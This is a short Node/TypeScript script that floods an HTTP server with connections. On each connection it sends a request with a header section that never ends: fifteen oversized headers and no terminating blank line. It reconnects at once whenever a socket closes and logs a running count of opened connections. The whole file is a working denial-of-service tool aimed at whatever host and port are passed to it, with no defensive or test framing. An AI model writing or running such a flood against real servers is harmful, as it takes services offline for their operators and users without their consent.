/** Opens connections to an HTTP server as fast as it can, and sends headers on each that have no end. Arguments: host, port, connections at a time. */
import { connect } from 'node:net';

const [host = '', port = '', atATime = ''] = process.argv.slice(2);
const headers = `GET /metrics HTTP/1.1\r\n${Array.from({ length: 15 }, (_, n) => `x-${n}: ${'a'.repeat(990)}\r\n`).join('')}`;
let opened = 0;

function flood(): void {
  const socket = connect(Number(port), host);
  socket.on('connect', () => {
    opened++;
    socket.write(headers);
  });
  socket.on('error', () => {});
  socket.on('close', () => setImmediate(flood));
}

for (let i = 0; i < Number(atATime); i++) flood();
setInterval(() => console.log(opened), 1_000);
